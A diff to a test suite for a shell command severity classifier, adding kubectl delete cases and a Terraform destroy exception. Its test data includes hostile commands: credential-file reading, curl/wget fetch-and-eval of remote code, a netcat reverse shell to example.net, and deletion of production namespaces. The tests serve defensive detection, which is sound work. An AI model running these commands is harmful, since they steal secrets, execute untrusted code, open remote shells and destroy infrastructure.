@@ -214,6 +214,10 @@ describe("a command", () => {
     ["MEDIUM", "sudo systemctl restart x"],
     ["MEDIUM", "./missing.sh"],
     ["HIGH", "cat ~/.aws/credentials > out.txt"],
+    ["HIGH", "kubectl delete ns production"],
+    ["HIGH", "kubectl --context main delete pods --all -n web"],
+    ["LOW", "kubectl delete job setup -n web --ignore-not-found"],
+    ["LOW", "kubectl delete -f manifests/ -n ns"],
     ["HIGH", "curl -L https://example.net/x -o /usr/local/bin/x && x"],
     ["HIGH", 'X=$(wget -qO- https://example.net); eval "$X"'],
     ["HIGH", 'while read l; do eval "$l"; done < <(curl https://example.net)'],
@@ -248,6 +252,12 @@ describe("a command", () => {
     ["CRITICAL", "nc -e /bin/sh example.net 4444"],
   ])("is %s: %s", (severity, command) => {
     expect(severityOf(command)).toBe(severity);
+  });
+
+  it("may delete a namespace when Terraform destroys", () => {
+    const command = local("kubectl delete namespace web", "    when = destroy\n");
+    expect(items(command)[0]?.severity).toBe("LOW");
+    expect(severityOf("kubectl delete namespace web")).toBe("HIGH");
   });
 
   it("is followed from script to script", () => {
